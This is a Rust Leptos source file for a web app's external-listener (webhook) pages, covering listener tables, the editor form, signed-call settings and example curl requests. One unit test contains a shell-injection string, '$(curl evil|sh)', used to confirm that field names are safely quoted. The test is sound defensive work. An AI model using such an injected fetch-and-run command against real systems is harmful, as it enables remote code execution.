use leptos::prelude::*;
use leptos_meta::Title;
use leptos_router::hooks::use_query_map;

use crate::app::components::{
    BUTTON, BUTTON_SECONDARY, CARD, CopyField, DangerZone, EmptyState, FormAlert, INPUT, LABEL,
    LINK, PageHeader, TABLE, TD, TH, TextField, action_error, field_error, field_sentence,
    hydrated, id_param, refresh_key, scope_param, show,
};
use crate::app::pages::external_data::DataFieldTable;
use crate::app::pages::listener_log::CallTable;
use crate::app::pages::listener_test::TestRequestPanel;
use crate::server_fns::listeners::{
    DeleteListener, SaveListener, SaveListenerSigning, load_listener_form, load_listeners,
};
use crate::shared::keys::parse_key;
use crate::types::{
    ListenerCallPage, ListenerFormOptions, ListenerKind, ListenerView, NEW_DATA_GROUP,
    SIGNATURE_SCHEMES, listener_endpoint, scope_label,
};

/// `text` as one single-quoted shell word: a `'` inside closes the quote, is escaped, and
/// reopens it, so a copied example never runs what a field name holds.
fn shell_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// What a listener does, in a few words.
fn does(l: &ListenerView) -> String {
    match l.kind {
        ListenerKind::Comment => {
            let mut does = format!("comment \"{}\" by \"{}\"", l.comment_field, l.author_field);
            if let Some((_, p)) = &l.project {
                does.push_str(&format!(" on {p}"));
            }
            if !l.project_param.is_empty() {
                does.push_str(&format!(" (project from \"{}\")", l.project_param));
            }
            does
        }
        ListenerKind::Data => l
            .data_group
            .as_ref()
            .map(|g| format!("stores {}", g.1))
            .unwrap_or_else(|| "—".into()),
        ListenerKind::Macro => l
            .macro_
            .as_ref()
            .map(|m| m.1.clone())
            .unwrap_or_else(|| "—".into()),
    }
}

#[component]
pub fn ListenersPage() -> impl IntoView {
    let data = Resource::new(refresh_key, |_| load_listeners());
    view! {
        <Title text="External listeners"/>
        <PageHeader title="External listeners".to_string()>
            <a class=BUTTON href="/listeners/new">"New user listener"</a>
            <a class=BUTTON_SECONDARY href="/listeners/new?scope=feedback">"New feedback listener"</a>
        </PageHeader>
        <p class="mb-4 text-sm text-slate-600">"URLs that third-party systems (Jira, Salesforce …) call to act on the user whose email they send as find, or on the feedback ticket whose id (or stored external value, such as a Jira issue key) they send: run a macro, add a comment, or store external data."</p>
        <Suspense fallback=|| view! { <p>"Loading…"</p> }>
            {move || Suspend::new(async move {
                show(data.await, |(listeners, calls)| view! {
                    {if listeners.is_empty() {
                        view! {
                            <EmptyState title="No listeners yet." text="A listener is a URL another system calls to act here: run a macro on the person whose email it sends, comment on a ticket, or store external data. It accepts one API key, so create the key first.">
                                <a class=BUTTON href="/listeners/new">"New user listener"</a>
                                <a class=BUTTON_SECONDARY href="/listeners/new?scope=feedback">"New feedback listener"</a>
                            </EmptyState>
                        }
                        .into_any()
                    } else {
                        view! { <ListenerTable caption="Listeners" listeners place=true/> }.into_any()
                    }}
                    <CallLog calls/>
                })
            })}
        </Suspense>
    }
}

/// A list of listeners; `place`: with the "Where" column (user listeners show "—" there).
#[component]
pub fn ListenerTable(
    caption: &'static str,
    listeners: Vec<ListenerView>,
    #[prop(optional)] place: bool,
) -> impl IntoView {
    view! {
        <div class="relative overflow-x-auto rounded-lg border border-slate-200 bg-white">
            <table class=TABLE>
                <caption class="sr-only">{caption}</caption>
                <thead class="bg-slate-50">
                    <tr>
                        <th scope="col" class=TH>"Name"</th>
                        <th scope="col" class=TH>"On"</th>
                        {place.then(|| view! { <th scope="col" class=TH>"Where"</th> })}
                        <th scope="col" class=TH>"Type"</th>
                        <th scope="col" class=TH>"Does"</th>
                        <th scope="col" class=TH>"Filter"</th>
                        <th scope="col" class=TH>"Status"</th>
                        <th scope="col" class=TH>"URL"</th>
                    </tr>
                </thead>
                <tbody class="divide-y divide-slate-100">
                    {listeners.into_iter().map(|l| view! {
                        <tr>
                            <td class=TD><a class=LINK href=format!("/listeners/{}", l.id)>{l.name.clone()}</a></td>
                            <td class=TD>{scope_label(&l.scope)}</td>
                            {place.then(|| view! { <td class=TD>{if l.scope == "feedback" { l.place.label.clone() } else { "—".to_string() }}</td> })}
                            <td class=TD>{l.kind.label()}</td>
                            <td class=TD>{does(&l)}</td>
                            <td class=TD>{l.filter.clone().map(|f| f.1).unwrap_or_else(|| if l.scope == "feedback" { "every ticket".into() } else { "every user".into() })}</td>
                            <td class=TD>{if l.enabled { "Enabled" } else { "Disabled" }}</td>
                            <td class=format!("{TD} font-mono text-xs")>{l.endpoint.clone()}</td>
                        </tr>
                    }).collect_view()}
                </tbody>
            </table>
        </div>
    }
}

/// The newest calls, with the way to the whole log.
#[component]
fn CallLog(calls: ListenerCallPage) -> impl IntoView {
    view! {
        <section aria-labelledby="recent-calls" class="mt-8">
            <div class="mb-3 flex flex-wrap items-baseline justify-between gap-2">
                <h2 id="recent-calls" class="text-lg font-semibold">"Recent calls"</h2>
                <a class=LINK href="/listeners/log">{format!("Open the listener log ({} calls)", calls.total)}</a>
            </div>
            {if calls.calls.is_empty() {
                view! { <p class="text-sm text-slate-600">"No calls yet. Each call to a listener shows here as it arrives."</p> }.into_any()
            } else {
                view! { <CallTable calls=calls.calls caption="Listener log"/> }.into_any()
            }}
        </section>
    }
}

/// The `kind` query parameter: the type chosen on the new listener's first step, or (without
/// JavaScript) the type an existing listener is being changed to.
fn kind_param() -> impl Fn() -> Option<ListenerKind> + Copy + Send + Sync + 'static {
    let query = use_query_map();
    move || {
        query
            .read()
            .get("kind")
            .and_then(|k| ListenerKind::parse(&k))
    }
}

/// The editor of a listener of `kind`: a new one of `scope`, or the listener `id`.
fn kind_href(scope: &str, id: Option<i32>, kind: ListenerKind) -> String {
    match id {
        Some(id) => format!("/listeners/{id}?kind={kind}"),
        None => format!("/listeners/new?scope={scope}&kind={kind}"),
    }
}

/// What a listener of `kind` does, in a sentence, for the type step.
fn kind_help(kind: ListenerKind, feedback: bool) -> &'static str {
    match (kind, feedback) {
        (ListenerKind::Macro, false) => {
            "Runs one of your user macros on the user whose email the call sends."
        }
        (ListenerKind::Macro, true) => {
            "Runs one of your feedback macros on the ticket the call names."
        }
        (ListenerKind::Comment, false) => {
            "Writes a user comment: the call's body holds its text and the email of the manager who signs it."
        }
        (ListenerKind::Comment, true) => {
            "Comments on the ticket the call names, signed by the member whose email the body holds; its followers hear of it."
        }
        (ListenerKind::Data, false) => {
            "Keeps the body's values on the user, in a data group you pick or create here."
        }
        (ListenerKind::Data, true) => {
            "Keeps the body's values on the ticket, in a data group you pick or create here."
        }
    }
}

#[component]
pub fn NewListenerPage() -> impl IntoView {
    let scope = scope_param();
    let kind = kind_param();
    let data = Resource::new(
        move || (refresh_key(), scope()),
        |(_, scope)| load_listener_form(None, scope),
    );
    view! {
        <Suspense fallback=|| view! { <p>"Loading…"</p> }>
            {move || {
                let kind = kind();
                Suspend::new(async move {
                    show(data.await, move |opts| {
                        let title = if opts.scope == "feedback" { "New feedback listener" } else { "New user listener" };
                        view! {
                            <Title text=title/>
                            <PageHeader title=title.to_string()/>
                            {match kind {
                                Some(kind) => view! { <ListenerEditor opts kind/> }.into_any(),
                                None => view! { <TypeStep scope=opts.scope/> }.into_any(),
                            }}
                        }
                    })
                })
            }}
        </Suspense>
    }
}

/// The new listener's first step: what its calls do. Plain links, so it works without
/// JavaScript; the editor then shows that type's fields.
#[component]
fn TypeStep(scope: String) -> impl IntoView {
    let feedback = scope == "feedback";
    // Opened from a project's or type's automation: the editor keeps its place.
    let place = crate::app::pages::automation::place_query()();
    view! {
        <section aria-labelledby="listener-type" class=format!("{CARD} space-y-4")>
            <h2 id="listener-type" class="text-lg font-semibold">"What should a call to this listener do?"</h2>
            <ul class="grid grid-cols-1 gap-3 sm:grid-cols-3">
                {ListenerKind::ALL.iter().map(|k| view! {
                    <li>
                        <a href=format!("{}{place}", kind_href(&scope, None, *k)) class="block h-full rounded-md border border-slate-300 p-4 hover:border-indigo-500 hover:bg-indigo-50 focus:outline-none focus:ring-2 focus:ring-indigo-500">
                            <span class="block font-semibold text-indigo-700">{k.label()}</span>
                            <span class="mt-1 block text-sm text-slate-600">{kind_help(*k, feedback)}</span>
                        </a>
                    </li>
                }).collect_view()}
            </ul>
            <a class=BUTTON_SECONDARY href="/listeners">"Cancel"</a>
        </section>
    }
}

#[component]
pub fn ListenerPage() -> impl IntoView {
    let id = id_param();
    let changed_kind = kind_param();
    let data = Resource::new(
        move || (refresh_key(), id()),
        |(_, id)| load_listener_form(Some(id), String::new()),
    );
    view! {
        <Suspense fallback=|| view! { <p>"Loading…"</p> }>
            {move || {
                let changed_kind = changed_kind();
                Suspend::new(async move {
                    show(data.await, move |opts| {
                        let l = opts.listener.clone();
                        let kind = changed_kind.or(l.as_ref().map(|l| l.kind)).unwrap_or(ListenerKind::Macro);
                        let title = l.as_ref().map(|l| l.name.clone()).unwrap_or_default();
                        let endpoint = l.as_ref().map(|l| l.endpoint.clone()).unwrap_or_default();
                        let id = l.as_ref().map(|l| l.id).unwrap_or_default();
                        let jira = format!("{endpoint}?find=VALUE&apiKey=YOUR_API_KEY");
                        let body = match l.as_ref() {
                            Some(l) if l.kind == ListenerKind::Comment => {
                                let mut example = serde_json::Map::new();
                                example.insert(l.author_field.clone(), "pm@example.com".into());
                                example.insert(l.comment_field.clone(), "Shipped in 2.1".into());
                                format!(" -H 'Content-Type: application/json' -d {}", shell_quoted(&serde_json::Value::Object(example).to_string()))
                            }
                            Some(l) if l.kind == ListenerKind::Data => " -H 'Content-Type: application/json' -d '{\"parameter\": \"value\"}'".to_string(),
                            _ => String::new(),
                        };
                        let example_find = match l.as_ref() {
                            Some(l) if l.scope == "feedback" && l.find_field.is_some() => "BETA-42",
                            Some(l) if l.scope == "feedback" => "42",
                            _ => "jim@example.com",
                        };
                        let curl = format!("curl -X POST {} -H 'X-Api-Key: YOUR_API_KEY'{body}", shell_quoted(&format!("{endpoint}?find={example_find}")));
                        let what = if l.as_ref().is_some_and(|l| l.scope == "feedback") { "ticket" } else { "user" };
                        view! {
                            <Title text=title.clone()/>
                            <PageHeader title=title>
                                <a class=BUTTON_SECONDARY href=format!("/listeners/log?listener={id}")>"Calls"</a>
                                <a class=BUTTON_SECONDARY href="/listeners">"All listeners"</a>
                            </PageHeader>
                            <section aria-labelledby="listener-url" class=format!("{CARD} mb-6 space-y-3")>
                                <h2 id="listener-url" class="text-lg font-semibold">"Endpoint"</h2>
                                <CopyField id="f-endpoint" label="URL for a webhook that can only set a URL (e.g. Jira)" value=jira/>
                                <CopyField id="f-curl" label="Example request" value=curl/>
                                <p class="text-xs text-slate-500">{format!("Answers: 200 done · 202 accepted, finishing in the background · 400 bad input · 401 no or unknown key · 403 key disabled, listener disabled or caller not allowed · 404 listener or {what} not found, or {what} outside the filter · 413 body too large · 415 body not JSON · 429 too many calls (see Retry-After). An Idempotency-Key header makes a repeated call get the first answer. The full contract: /api/v1/openapi.json.")}</p>
                            </section>
                            {if opts.locked {
                                view! { <crate::app::pages::macros::RemovalLocked what="This listener"/> }.into_any()
                            } else {
                                view! {
                                    <TestRequestPanel id feedback=l.as_ref().is_some_and(|l| l.scope == "feedback")/>
                                    <crate::app::pages::test_calls::TestCallPanel id/>
                                    {l.clone().map(|l| view! {
                                        <SignedCalls id=l.id scheme=l.signature_scheme label=l.signature_label old_until=l.old_secret_until/>
                                    })}
                                    <ListenerEditor opts kind/>
                                    <DangerZone action={ServerAction::<DeleteListener>::new()} id heading="Delete this listener" confirm_label="Yes, delete this listener; its URL will answer 404" button="Delete listener"/>
                                }.into_any()
                            }}
                        }
                    })
                })
            }}
        </Suspense>
    }
}

/// *Signed calls* (a listener's or, `source`, an external source's): for a sender that cannot
/// add an API key (Jira, GitHub, Stripe, Slack), each call's signature is checked with a shared
/// secret instead. The secret is written, never shown again; a new one rotates (the old one
/// still passes for a day).
#[component]
pub(crate) fn SignedCalls(
    id: i32,
    scheme: String,
    label: String,
    old_until: Option<String>,
    #[prop(optional)] source: bool,
) -> impl IntoView {
    let what = if source { "source" } else { "listener" };
    let status = if scheme.is_empty() {
        "Off: every call needs the API key.".to_string()
    } else {
        format!(
            "On: {label}. Every call needs a valid signature, and counts as a call with the {what}'s API key (an API key it brings must be that one)."
        )
    };
    let form = if source {
        let action = ServerAction::<crate::server_fns::feedback::SaveSourceSigning>::new();
        let error = action_error(action);
        let version = Signal::derive(move || action.version().get());
        view! {
            <ActionForm action=action attr:class="space-y-3">
                <SigningFields id current=scheme.clone() error version/>
            </ActionForm>
        }
        .into_any()
    } else {
        let action = ServerAction::<SaveListenerSigning>::new();
        let error = action_error(action);
        let version = Signal::derive(move || action.version().get());
        view! {
            <ActionForm action=action attr:class="space-y-3">
                <SigningFields id current=scheme.clone() error version/>
            </ActionForm>
        }
        .into_any()
    };
    view! {
        <section id="signed-calls" aria-labelledby="signed-calls-heading" class=format!("{CARD} mb-6 space-y-3")>
            <h2 id="signed-calls-heading" class="text-lg font-semibold">"Signed calls"</h2>
            <p class="text-sm text-slate-600">"For a system that cannot add an API key to its webhook but signs each call with a shared secret. The secret is stored encrypted and never shown again."</p>
            <p class="text-sm" data-testid="signing-status">{status}</p>
            {old_until.map(|until| view! {
                <p class="text-sm text-amber-900">{format!("Rotating: the previous secret also passes until {until}.")}</p>
            })}
            {form}
        </section>
    }
}

/// The fields of *Signed calls*: the scheme and the secret (drawn again after each save,
/// `version`, so a secret typed in is not left in the field).
#[component]
fn SigningFields(
    id: i32,
    current: String,
    error: Signal<Option<crate::errors::AppError>>,
    version: Signal<usize>,
) -> impl IntoView {
    let scheme_error = field_error(error, "scheme");
    view! {
        <FormAlert error/>
        <input type="hidden" name="form[id]" value=id.to_string()/>
        <div class="grid grid-cols-1 gap-4 sm:grid-cols-2">
            <div>
                <label for="f-signing-scheme" class=LABEL>"Signature"</label>
                <select id="f-signing-scheme" name="form[scheme]" class=INPUT>
                    <option value="" selected=current.is_empty()>"None: the API key only"</option>
                    {SIGNATURE_SCHEMES.iter().map(|(value, label)| view! {
                        <option value=*value selected=current == *value>{*label}</option>
                    }).collect_view()}
                </select>
                {move || scheme_error.get().map(|e| view! { <p class="mt-1 text-sm text-red-700">{field_sentence("Signature", &e)}</p> })}
            </div>
            {move || {
                version.track();
                view! {
                    <TextField label="Shared secret" name="form[secret]" kind="password" autocomplete="off"
                        hint="The sender's signing secret (Stripe and Slack show theirs; with GitHub, Jira or Standard Webhooks you choose one and give it to both). Empty keeps the current one; a new one rotates."
                        error=field_error(error, "secret")/>
                }
            }}
        </div>
        <button type="submit" class=BUTTON_SECONDARY>"Save signing"</button>
    }
}

/// What the editor says under the endpoint URL, for the key as typed.
fn url_note(hydrated: bool, saved: bool, key: &str) -> String {
    let note = match (hydrated, saved, parse_key(key)) {
        (false, true, _) => {
            "Without JavaScript, a new key or type shows in this URL once you save."
        }
        (false, false, _) => {
            "Without JavaScript, the URL shows once you save: the listener's page has it, ready to copy."
        }
        (true, true, Ok(_)) => {
            "A new key or type changes this URL once you save: copy it into the other system then."
        }
        (true, false, Ok(_)) => {
            "Copy the URL into the other system, then save the listener: it answers calls once it is saved."
        }
        (true, _, Err(_)) if key.trim().is_empty() => "The URL shows here as you type the key.",
        (true, _, Err(e)) => return format!("No URL yet: {}", field_sentence("the key", &e)),
    };
    note.to_string()
}

/// The listener's settings. Only the fields of the chosen type show: hydrated, the type select
/// swaps them in place; without JavaScript the type comes from the page (the type step, or
/// `?kind=`), and links change it. The endpoint URL follows the key as it is typed.
#[component]
fn ListenerEditor(opts: ListenerFormOptions, kind: ListenerKind) -> impl IntoView {
    let action = ServerAction::<SaveListener>::new();
    let error = action_error(action);
    let js = hydrated();
    let l = opts.listener.clone();
    let listener_id = l.as_ref().map(|l| l.id);
    let id = listener_id.map(|id| id.to_string()).unwrap_or_default();
    let (name, description, key) = l
        .as_ref()
        .map(|l| (l.name.clone(), l.description.clone(), l.key.clone()))
        .unwrap_or_default();
    let enabled = l.as_ref().is_none_or(|l| l.enabled);
    let chosen = |pick: Option<(i32, String)>| pick.map(|p| p.0);
    let filter = chosen(l.as_ref().and_then(|l| l.filter.clone()));
    let macro_ = chosen(l.as_ref().and_then(|l| l.macro_.clone()));
    let find_field = chosen(l.as_ref().and_then(|l| l.find_field.clone()));
    let feedback = opts.scope == "feedback";
    let (author_field, comment_field) = l
        .as_ref()
        .map(|l| (l.author_field.clone(), l.comment_field.clone()))
        .unwrap_or_default();
    let kind_error = field_error(error, "kind");
    let project = chosen(l.as_ref().and_then(|l| l.project.clone()));
    let project_param = l
        .as_ref()
        .map(|l| l.project_param.clone())
        .unwrap_or_default();
    let api_key = chosen(l.as_ref().and_then(|l| l.api_key.clone()));
    let find_path = l.as_ref().map(|l| l.find_path.clone()).unwrap_or_default();
    let accepts_form = l.as_ref().is_some_and(|l| l.accepts_form);
    let select = move |label: &'static str,
                       field: &'static str,
                       options: Vec<(i32, String)>,
                       current: Option<i32>,
                       none: Option<&'static str>| {
        let err = field_error(error, field);
        let id = format!("f-{field}");
        view! {
            <div>
                <label for=id.clone() class=LABEL>{label}</label>
                <select id=id name=format!("form[{field}]") class=INPUT aria-invalid=move || err.get().is_some().then_some("true")>
                    {none.map(|n| view! { <option value="" selected=current.is_none()>{n}</option> })}
                    {options.into_iter().map(|(i, n)| view! { <option value=i.to_string() selected=current == Some(i)>{n}</option> }).collect_view()}
                </select>
                {move || err.get().map(|e| view! { <p class="mt-1 text-sm text-red-700">{field_sentence(label, &e)}</p> })}
            </div>
        }
    };

    // The type: a signal the select sets (hydrated) and the hidden field sends.
    let initial_kind = kind;
    let kind = RwSignal::new(kind);
    let not_chosen = move |k: ListenerKind| move || kind.get() != k;

    // The endpoint as the key is typed.
    let typed_key = RwSignal::new(key.clone());
    let (base_url, scope) = (opts.base_url.clone(), opts.scope.clone());
    let url = Signal::derive(move || {
        parse_key(&typed_key.get())
            .map(|k| listener_endpoint(&base_url, &scope, kind.get(), &k))
            .unwrap_or_default()
    });
    let has_url = Memo::new(move |_| !url.get().is_empty());
    let saved = l.is_some();
    let note = move || typed_key.with(|key| url_note(js.get(), saved, key));

    // External Data: an existing group, or one created with the listener.
    let groups = opts.data_groups.clone();
    let initial_group = match l.as_ref().and_then(|l| l.data_group.clone()) {
        Some((id, _)) => id.to_string(),
        None if groups.is_empty() => NEW_DATA_GROUP.to_string(),
        None => String::new(),
    };
    let group = RwSignal::new(initial_group.clone());
    let group_error = field_error(error, "data_group_id");
    let scope_for_links = opts.scope.clone();
    let place_query = crate::app::pages::automation::place_query();

    view! {
        <ActionForm action=action attr:class=format!("{CARD} space-y-4")>
            <FormAlert error/>
            <input type="hidden" name="form[id]" value=id/>
            <input type="hidden" name="form[scope]" value=opts.scope.clone()/>
            <input type="hidden" name="form[kind]" value=move || kind.get().as_str()/>
            <div class="grid grid-cols-1 gap-4 sm:grid-cols-2">
                <TextField label="Name" name="form[name]" value=name required=true autocomplete="off" error=field_error(error, "name")/>
                <TextField label="Key" name="form[key]" value=key required=true autocomplete="off" hint="The last part of the URL, e.g. deleteuser." error=field_error(error, "key")
                    on_input=move |v: String| typed_key.set(v)/>
            </div>
            <div>
                {move || if has_url.get() {
                    view! { <CopyField id="f-listener-url" label="Endpoint URL" value=url/> }.into_any()
                } else {
                    view! { <p class=LABEL>"Endpoint URL"</p> }.into_any()
                }}
                <p class="mt-1 text-xs text-slate-500">{note}</p>
            </div>
            <TextField label="Description" name="form[description]" value=description autocomplete="off" error=field_error(error, "description")/>
            <div class="grid grid-cols-1 gap-4 sm:grid-cols-3">
                <div>
                    <label for="f-kind" class=LABEL>"Listener type"</label>
                    // Without JavaScript a changed type could not show its fields: the select
                    // is enabled once hydrated, and the links below change the type instead.
                    <select id="f-kind" class=format!("{INPUT} disabled:bg-slate-100 disabled:text-slate-600") disabled=move || !js.get()
                        on:change=move |ev| {
                            if let Some(k) = ListenerKind::parse(&event_target_value(&ev)) {
                                kind.set(k);
                            }
                        }>
                        {ListenerKind::ALL.iter().map(|k| view! { <option value=k.as_str() selected=initial_kind == *k>{k.label()}</option> }).collect_view()}
                    </select>
                    {move || kind_error.get().map(|e| view! { <p class="mt-1 text-sm text-red-700">{field_sentence("Listener type", &e)}</p> })}
                    <p class="mt-1 text-xs text-slate-500" hidden=move || js.get()>
                        "Change it to: "
                        {ListenerKind::ALL.iter().filter(|k| **k != initial_kind).enumerate().map(|(i, k)| view! {
                            {(i > 0).then_some(" · ")}
                            <a class=LINK href=format!("{}{}", kind_href(&scope_for_links, listener_id, *k), if listener_id.is_none() { place_query() } else { String::new() })>{k.label()}</a>
                        }).collect_view()}
                    </p>
                </div>
                {select("Filter", "filter_id", opts.filters.clone(), filter, Some(if feedback { "No filter: every ticket" } else { "No filter: every user" }))}
                {select("API key", "api_key_id", opts.api_keys.clone(), api_key, Some("— choose —"))}
            </div>
            {feedback.then(|| view! {
                <div class="max-w-md">
                    <crate::app::pages::automation::WhereSelect choices=opts.places.clone() current=l.as_ref().map(|l| l.place.value.clone()) what="listener" error=field_error(error, "place")/>
                </div>
            })}
            {feedback.then(|| view! {
                <div>
                    {select("Find the ticket by", "find_field_id", opts.find_fields.clone(), find_field, Some("Its id (find=42)"))}
                    <p class="mt-1 text-xs text-slate-500">"Or by the value of an external-data field stored on it, such as the key of the Jira issue that tracks it (find=BETA-42)."</p>
                </div>
            })}
            <div class="max-w-xl">
                <TextField label="Target in the body" name="form[find_path]" value=find_path autocomplete="off"
                    hint={if feedback {
                        "Optional: for a caller that cannot put find= in the URL, where its body names the ticket, as a key or a path such as issue.key. The URL's find wins."
                    } else {
                        "Optional: for a caller that cannot put find= in the URL, where its body names the user's email, as a key or a path such as issue.fields.reporter.emailAddress. The URL's find wins."
                    }}
                    error=field_error(error, "find_path")/>
                <label for="f-accepts-form" class="mt-3 flex items-center gap-2 text-sm">
                    <input id="f-accepts-form" type="checkbox" name="form[accepts_form]" checked=accepts_form class="h-4 w-4 rounded border-slate-300"/>
                    "Form bodies: also take application/x-www-form-urlencoded (each key's text)"
                </label>
            </div>
            <fieldset class="rounded-md border border-slate-200 p-4" hidden=not_chosen(ListenerKind::Macro)>
                <legend class="px-1 text-sm font-semibold">"Macro Execution"</legend>
                {select("Macro to run", "macro_id", opts.macros.clone(), macro_, Some("— choose —"))}
            </fieldset>
            <fieldset class="rounded-md border border-slate-200 p-4" hidden=not_chosen(ListenerKind::Comment)>
                <legend class="px-1 text-sm font-semibold">"Add Comment"</legend>
                <div class="grid grid-cols-1 gap-4 sm:grid-cols-2">
                    <TextField label="Author field" name="form[author_field]" value=author_field autocomplete="off" hint={if feedback { "The body's key holding the author's email (a member of the community), e.g. author." } else { "The body's key holding the author's email (a manager), e.g. author_name." }} error=field_error(error, "author_field")/>
                    <TextField label="Comment field" name="form[comment_field]" value=comment_field autocomplete="off" hint="The body's key holding the comment, e.g. comment." error=field_error(error, "comment_field")/>
                </div>
            </fieldset>
            {(!feedback).then(|| view! {
                <fieldset class="space-y-2 rounded-md border border-slate-200 p-4" hidden=move || !matches!(kind.get(), ListenerKind::Comment | ListenerKind::Data)>
                    <legend class="px-1 text-sm font-semibold">"Project"</legend>
                    <div class="grid grid-cols-1 gap-4 sm:grid-cols-2">
                        {select("Project", "target_project_id", opts.projects.clone(), project, Some("Community-level"))}
                        <TextField label="Project parameter" name="form[project_param]" value=project_param autocomplete="off" hint="Optional: the body's key whose value names the project by its key or id, e.g. project. It wins over the project chosen here." error=field_error(error, "project_param")/>
                    </div>
                    <p class="text-xs text-slate-500">"Add Comment: a comment about a project shows with that project on the user's page; community-level otherwise. External Data: used when the data group is a project group, whose values are stored on this project."</p>
                </fieldset>
            })}
            <fieldset class="min-w-0 space-y-4 rounded-md border border-slate-200 p-4" hidden=not_chosen(ListenerKind::Data)>
                <legend class="px-1 text-sm font-semibold">"External Data"</legend>
                <div>
                    <label for="f-data_group_id" class=LABEL>"Data group"</label>
                    <select id="f-data_group_id" name="form[data_group_id]" class=INPUT
                        aria-invalid=move || group_error.get().is_some().then_some("true")
                        on:change=move |ev| group.set(event_target_value(&ev))>
                        <option value="" selected=initial_group.is_empty()>"— choose —"</option>
                        {groups.into_iter().map(|(i, n)| view! { <option value=i.to_string() selected=initial_group == i.to_string()>{n}</option> }).collect_view()}
                        <option value=NEW_DATA_GROUP selected=initial_group == NEW_DATA_GROUP>"Create a new group"</option>
                    </select>
                    {move || group_error.get().map(|e| view! { <p class="mt-1 text-sm text-red-700">{field_sentence("Data group", &e)}</p> })}
                    <p class="mt-1 text-xs text-slate-500">"The body's keys that are parameters of the group are stored, each as its field's type."</p>
                </div>
                <div class="space-y-3 border-t border-slate-200 pt-4" hidden=move || js.get() && group.get() != NEW_DATA_GROUP>
                    <p class="text-xs text-slate-500" hidden=move || js.get()>"Used when the data group above is “Create a new group”."</p>
                    <div class="grid max-w-2xl grid-cols-1 gap-4 sm:grid-cols-2">
                        <TextField label="New group" name="form[group_name]" autocomplete="off" hint="Its name, e.g. Jira. It is created when the listener is saved." error=field_error(error, "group_name")/>
                        <div>
                            <label for="f-group_scope" class=LABEL>"Its values are stored on"</label>
                            <select id="f-group_scope" name="form[group_scope]" class=INPUT>
                                <option value="" selected=true>{if feedback { "Each ticket" } else { "Each user" }}</option>
                                <option value="project">"A project"</option>
                            </select>
                            <p class="mt-1 text-xs text-slate-500">{if feedback { "A project group stores on the ticket's project." } else { "A project group stores on the project chosen under Project." }}</p>
                        </div>
                    </div>
                    <p class="text-xs text-slate-500">"Each field: the label people see, the parameter the other system sends in the body, and the type its values are stored as. A row without a label is left out."</p>
                    <DataFieldTable fields=Vec::new() error/>
                </div>
            </fieldset>
            <label for="f-listener-enabled" class="flex items-center gap-2 text-sm">
                <input id="f-listener-enabled" type="checkbox" name="form[enabled]" checked=enabled class="h-4 w-4 rounded border-slate-300"/>
                "Enabled"
            </label>
            <div class="flex flex-wrap gap-2">
                <button type="submit" class=BUTTON>"Save listener"</button>
                <a class=BUTTON_SECONDARY href="/listeners">"Cancel"</a>
            </div>
        </ActionForm>
    }
}

#[cfg(test)]
mod tests {
    use super::{shell_quoted, url_note};

    #[test]
    fn examples_quote_what_a_field_name_holds_for_the_shell() {
        assert_eq!(shell_quoted("plain"), "'plain'");
        assert_eq!(
            shell_quoted("a'$(curl evil|sh)'"),
            r#"'a'\''$(curl evil|sh)'\'''"#
        );
    }

    #[test]
    fn the_note_under_the_url_follows_the_key_and_javascript() {
        assert_eq!(
            url_note(true, false, " "),
            "The URL shows here as you type the key."
        );
        assert_eq!(
            url_note(true, false, "two words"),
            "No URL yet: the key must be 1 to 60 letters, digits, - or _."
        );
        assert!(url_note(true, false, "Jira").starts_with("Copy the URL into the other system"));
        assert!(url_note(true, true, "jira").starts_with("A new key or type changes this URL"));
        assert!(
            url_note(false, false, "jira")
                .starts_with("Without JavaScript, the URL shows once you save")
        );
    }
}
